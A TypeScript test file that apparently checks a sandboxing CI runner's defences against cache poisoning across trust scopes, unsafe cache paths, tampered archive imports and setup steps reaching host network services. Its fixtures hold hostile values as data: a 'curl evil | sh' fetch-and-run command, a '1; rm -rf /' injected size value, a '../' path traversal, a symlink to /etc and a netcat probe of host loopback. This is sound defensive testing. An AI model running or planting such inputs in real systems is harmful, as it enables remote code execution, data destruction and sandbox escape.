// Classes 5 and 8 of issue 12, and `cache import`. Each attempt is a hostile checkout (or archive)
// through the real CLI. Class 5: a job poisons a `caches:` dir, and a later setup step or another
// trust scope must not take it in (the check: the poison token is in no output of the trusted run
// and in no file of the layer store); destinations over system dirs or the checkout are refused
// (exit 2, nothing run). `cache import`: a tampered meta.json is refused and the store is left as
// it was. Class 8: a setup step on its default network reaches neither a TCP server on the host's
// 127.0.0.1 nor an abstract unix socket of the host, each handing out a secret. Positive controls:
// a job of the same scope does read the poison; `network: host` does reach both servers; the
// untampered archive is imported and used.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { outboundUnavailable } from '../../helpers/host.js';
import { makeProject, outputOf, removeProjects, type Project } from '../../helpers/project.js';
import {
  abstractServer,
  editMeta,
  filesContaining,
  loopbackServer,
  readAbstractSocket,
  tamperedArchive,
  token,
  treeListing,
} from './caches-network-helpers.js';

afterAll(removeProjects);

const NO_OUTBOUND = outboundUnavailable();
if (NO_OUTBOUND)
  console.log(`skipped: the attempts on a setup step's default network (outbound) as this user: ${NO_OUTBOUND}; network: none and host still run`);

/** Every byte the run showed: both streams. */
const shown = (result: { stdout: string; stderr: string }) => `${result.stdout}\n${result.stderr}`;

describe('class 5: caches never reach a layer or another trust scope', () => {
  /** A checkout whose job writes `poison` into its cache; `stepTwo`: a second setup step that reads the cache into its layer. */
  function poisonConfig(poison: string, stepTwo: boolean): string {
    return `
jobs:
  build:
    caches: [~/.cache/tool]
    setup:
      - run: echo base > ~/base.txt
        network: none
${stepTwo ? '      - run: (cat ~/.cache/tool/payload 2>/dev/null || echo step-saw-nothing) > ~/step-saw.txt\n        network: none\n' : ''}    run: echo "job-saw=$(cat ~/.cache/tool/payload 2>/dev/null || echo nothing)"; ${stepTwo ? 'echo "layer-has=$(cat ~/step-saw.txt)"; ' : ''}echo ${poison} > ~/.cache/tool/payload
`;
  }

  it('a job poisons its cache; a setup step built later in that scope does not take it into its layer, and the trusted run reusing the layer is clean', async () => {
    const poison = `POISON-${token()}`;
    const project = makeProject(poisonConfig(poison, false));
    const first = await project.cubicle(['run', '--cache-scope', 'pr-7']);
    expect(first.exitCode, shown(first)).toBe(0);
    // The pull request adds a step that reads the cache, like `npm ci` reading ~/.npm.
    fs.writeFileSync(project.file('cubicle.config.yaml'), poisonConfig(`${poison}-again`, true));
    const untrusted = await project.cubicle(['run', '--cache-scope', 'pr-7']);
    expect(untrusted.exitCode, shown(untrusted)).toBe(0);
    // Positive control: the job of the same scope does see the poison, through the same check.
    expect(outputOf(untrusted.stdout, 'build')).toContain(`job-saw=${poison}`);
    expect(outputOf(untrusted.stdout, 'build')).toContain('layer-has=step-saw-nothing');
    const trusted = await project.cubicle(['run', '--cache-scope', 'ref-main']);
    expect(trusted.exitCode, shown(trusted)).toBe(0);
    expect(outputOf(trusted.stdout, 'build').filter((line) => line.includes('cached:'))).toHaveLength(2);
    expect(shown(trusted)).not.toContain(poison);
    expect(outputOf(trusted.stdout, 'build')).toContain('layer-has=step-saw-nothing');
    expect(filesContaining(path.join(project.cacheDir, 'layers'), poison)).toEqual([]);
  }, 120_000);

  it("a run of a trusted scope does not see what an untrusted scope's job wrote; a later run of the same scope does (control)", async () => {
    const poison = `POISON-${token()}`;
    const project = makeProject(poisonConfig(poison, false));
    expect((await project.cubicle(['run', '--cache-scope', 'pr-12'])).exitCode).toBe(0);
    const trusted = await project.cubicle(['run', '--cache-scope', 'ref-main']);
    expect(trusted.exitCode, shown(trusted)).toBe(0);
    expect(outputOf(trusted.stdout, 'build')).toContain('job-saw=nothing');
    expect(shown(trusted)).not.toContain(poison);
    const local = await project.cubicle(['run']);
    expect(shown(local)).not.toContain(poison);
    const same = await project.cubicle(['run', '--cache-scope', 'pr-12']);
    expect(outputOf(same.stdout, 'build')).toContain(`job-saw=${poison}`);
  }, 120_000);

  it("under GitHub Actions a pull request's run gets its own scope by default: the default branch's run does not see its cache", async () => {
    const poison = `POISON-${token()}`;
    const project = makeProject(poisonConfig(poison, false));
    const github = { GITHUB_ACTIONS: 'true', GITHUB_EVENT_PATH: '/nonexistent', GITHUB_HEAD_REF: '', GITHUB_REF_NAME: '' };
    const pr = await project.cubicle(['run'], { env: { ...github, GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/31/merge' } });
    expect(pr.exitCode, shown(pr)).toBe(0);
    // pull_request_target: the base's ref, but possibly the pull request's code: a scope of its own too.
    const target = await project.cubicle(['run'], {
      env: { ...github, GITHUB_EVENT_NAME: 'pull_request_target', GITHUB_REF: 'refs/heads/main', GITHUB_HEAD_REF: 'evil' },
    });
    expect(shown(target)).not.toContain(poison);
    const main = await project.cubicle(['run'], { env: { ...github, GITHUB_EVENT_NAME: 'push', GITHUB_REF: 'refs/heads/main', GITHUB_REF_NAME: 'main' } });
    expect(main.exitCode, shown(main)).toBe(0);
    expect(shown(main)).not.toContain(poison);
    expect(fs.readdirSync(path.join(project.cacheDir, 'caches')).sort()).toEqual(['pr-31', 'pr-evil', 'ref-main']);
  }, 120_000);

  const destinations: [string, (project: Project) => string][] = [
    ['/usr', () => '/usr'],
    ['/bin/sub', () => '/bin/sub'],
    ['/ (as /.)', () => '/.'],
    ['/etc', () => '/etc'],
    ['/var/lib/dpkg', () => '/var/lib/dpkg'],
    ['the checkout', (project) => project.dir],
    ['above the checkout', (project) => path.dirname(project.dir)],
    ['~/.. (out of the home)', () => '~/..'],
  ];
  it.each(destinations)(
    'a cache over %s: exit 2 naming the key and the value, nothing run',
    async (_label, destination) => {
      const ran = `RAN-${token()}`;
      const project = makeProject('');
      const value = destination(project);
      fs.writeFileSync(project.file('cubicle.config.yaml'), `jobs:\n  evil:\n    caches: ["${value}"]\n    run: echo ${ran}\n`);
      const result = await project.cubicle(['run']);
      expect(result.exitCode, shown(result)).toBe(2);
      expect(result.stderr).toContain('jobs.evil.caches.0');
      expect(result.stderr).toContain(`"${value}"`);
      expect(result.stderr).toContain('nothing was run');
      expect(shown(result)).not.toContain(ran);
      expect(fs.existsSync(path.join(project.cacheDir, 'caches'))).toBe(false);
    },
    30_000,
  );

  it('a job whose env makes ~/ the /usr: refused once HOME is known (exit 2), nothing mounted over /usr', async () => {
    const ran = `RAN-${token()}`;
    const project = makeProject(`jobs:\n  evil:\n    env: { HOME: /usr }\n    caches: [~/lib]\n    run: echo ${ran}\n`);
    const result = await project.cubicle(['run']);
    expect(result.exitCode, shown(result)).toBe(2);
    expect(result.stderr).toMatch(/jobs\.evil\.caches\.0: "~\/lib" is \/usr\/lib|jobs\.evil\.env/);
    expect(shown(result)).not.toContain(ran);
  }, 30_000);

  it('--cache-scope that would leave the caches dir: exit 2, nothing run', async () => {
    const ran = `RAN-${token()}`;
    const project = makeProject(`jobs:\n  evil:\n    caches: [~/.npm]\n    run: echo ${ran}\n`);
    for (const scope of ['..', '../../x', 'a/b', '']) {
      const result = await project.cubicle(['run', '--cache-scope', scope]);
      expect(result.exitCode, `${scope}: ${shown(result)}`).toBe(2);
      expect(result.stderr).toContain('--cache-scope');
      expect(shown(result)).not.toContain(ran);
    }
    expect(fs.existsSync(path.join(project.cacheDir, 'caches'))).toBe(false);
  }, 30_000);
});

describe('cache import: an archive never names host paths or other keys', () => {
  const CONFIG = 'jobs:\n  unit:\n    setup:\n      - run: echo built > ~/built.txt\n        network: none\n    run: cat ~/built.txt\n';
  let source: { project: Project; archive: string } | undefined;
  /** One layer of a setup step, exported; the project's store is then emptied for each import. */
  async function exported(): Promise<{ project: Project; archive: string }> {
    if (source) return source;
    const project = makeProject(CONFIG);
    expect((await project.cubicle(['run'])).exitCode).toBe(0);
    const archive = path.join(project.dir, '..', 'layers.tar.zst');
    const result = await project.cubicle(['cache', 'export', archive]);
    expect(result.exitCode, shown(result)).toBe(0);
    source = { project, archive };
    return source;
  }

  /** Imports `file` into the exporting project's store, emptied first (its key holds the checkout's path); the store before and after. */
  async function importInto(file: string) {
    const { project } = await exported();
    expect((await project.cubicle(['cache', 'prune', '--all'])).exitCode).toBe(0);
    fs.rmSync(path.join(project.cacheDir, 'images'), { recursive: true, force: true });
    const listing = () => [...treeListing(path.join(project.cacheDir, 'layers')), ...treeListing(path.join(project.cacheDir, 'images'))];
    const before = listing();
    const result = await project.cubicle(['cache', 'import', file]);
    return { project, result, before, after: listing() };
  }

  it('control: the archive as exported is imported, and a run uses its layer', async () => {
    const { project, result } = await importInto((await exported()).archive);
    expect(result.exitCode, shown(result)).toBe(0);
    expect(result.stdout).toContain('imported 1 layers');
    const run = await project.cubicle(['run']);
    expect(outputOf(run.stdout, 'unit').some((line) => line.startsWith('[setup 1/1] cached:'))).toBe(true);
  }, 60_000);

  const tampers: [string, string, (dir: string, id: string) => void][] = [
    [
      'a key whose hash is not the id (the step changed)',
      "its id is not its key's hash",
      (dir, id) => editMeta(dir, id, (meta) => ((meta.key as Record<string, unknown>).run = 'curl evil | sh')),
    ],
    ['a parent naming another key', 'its key names the parent', (dir, id) => editMeta(dir, id, (meta) => (meta.parent = 'a'.repeat(64)))],
    ['a path field with ../', "meta.json is not a layer's", (dir, id) => editMeta(dir, id, (meta) => (meta.root = '../../../../etc'))],
    ['a size that is not a number', "meta.json is not a layer's", (dir, id) => editMeta(dir, id, (meta) => (meta.sizeBytes = '1; rm -rf /'))],
    [
      'root/ a symlink to a host dir',
      'is not a plain directory',
      (dir, id) => {
        fs.rmSync(path.join(dir, 'layers', id, 'root'), { recursive: true, force: true });
        fs.symlinkSync('/etc', path.join(dir, 'layers', id, 'root'));
      },
    ],
  ];
  it.each(tampers)(
    '%s: refused, nothing imported, the store as it was',
    async (_label, problem, tamper) => {
      const file = await tamperedArchive((await exported()).archive, tamper);
      const { result, before, after } = await importInto(file);
      expect(result.exitCode, shown(result)).toBe(1);
      expect(result.stdout).toContain(problem);
      expect(result.stdout).toContain('nothing was imported');
      expect(after).toEqual(before);
    },
    60_000,
  );
});

describe("class 8: a setup step's default network is its own", () => {
  /** A step that tries the host's loopback server and abstract socket, and keeps what it got in its layer. */
  function reachingConfig(port: string, socket: string, network: string | null): string {
    const line = network ? `        network: ${network}\n` : '';
    return `
jobs:
  reach:
    setup:
      - run: (busybox nc -w 2 127.0.0.1 ${port} </dev/null; ${readAbstractSocket(socket)}) > ~/got.txt 2>&1; true
${line}    run: echo got; cat ~/got.txt
`;
  }

  async function attempt(network: string | null) {
    const secret = `LOOPBACK-SECRET-${token()}`;
    const tcp = await loopbackServer(secret);
    const unix = await abstractServer(secret);
    try {
      const project = makeProject(reachingConfig(tcp.address, unix.address, network));
      const result = await project.cubicle(['run'], { timeoutMs: 60_000 });
      return { secret, result, project, tcp: tcp.connections, unix: unix.connections, layers: filesContaining(path.join(project.cacheDir, 'layers'), secret) };
    } finally {
      await tcp.close();
      await unix.close();
    }
  }

  it.runIf(!NO_OUTBOUND)(
    "the default (outbound): neither the host's 127.0.0.1 nor its abstract socket is reached; the secret is in no output and no layer",
    async () => {
      const { secret, result, tcp, unix, layers } = await attempt(null);
      expect(result.exitCode, shown(result)).toBe(0);
      expect(shown(result)).not.toContain(secret);
      expect([tcp, unix]).toEqual([0, 0]);
      expect(layers).toEqual([]);
    },
    90_000,
  );

  it('network: none: neither is reached either', async () => {
    const { secret, result, tcp, unix, layers } = await attempt('none');
    expect(result.exitCode, shown(result)).toBe(0);
    expect(shown(result)).not.toContain(secret);
    expect([tcp, unix]).toEqual([0, 0]);
    expect(layers).toEqual([]);
  }, 90_000);

  it('control: with the explicit opt-in `network: host` the same step reaches both, and the same check sees it', async () => {
    const { secret, result, tcp, unix, layers } = await attempt('host');
    expect(result.exitCode, shown(result)).toBe(0);
    expect(outputOf(result.stdout, 'reach').filter((line) => line === secret)).toHaveLength(2);
    expect([tcp, unix]).toEqual([1, 1]);
    expect(layers.length).toBeGreaterThan(0);
  }, 90_000);

  it.runIf(NO_OUTBOUND !== null)(
    'where outbound cannot run as this user: exit 3 naming the step, the fix and the opt-in; the step never ran',
    async () => {
      const { secret, result, tcp, unix, layers } = await attempt(null);
      expect(result.exitCode, shown(result)).toBe(3);
      expect(result.stderr).toContain('setup step 1 of job "reach"');
      expect(result.stderr).toMatch(/apt-get install slirp4netns|chmod 0666 \/dev\/net\/tun/);
      expect(result.stderr).toContain('`network: host`');
      expect(result.stderr).toContain('explicit opt-in');
      expect(shown(result)).not.toContain(secret);
      expect([tcp, unix]).toEqual([0, 0]);
      expect(layers).toEqual([]);
    },
    90_000,
  );
});
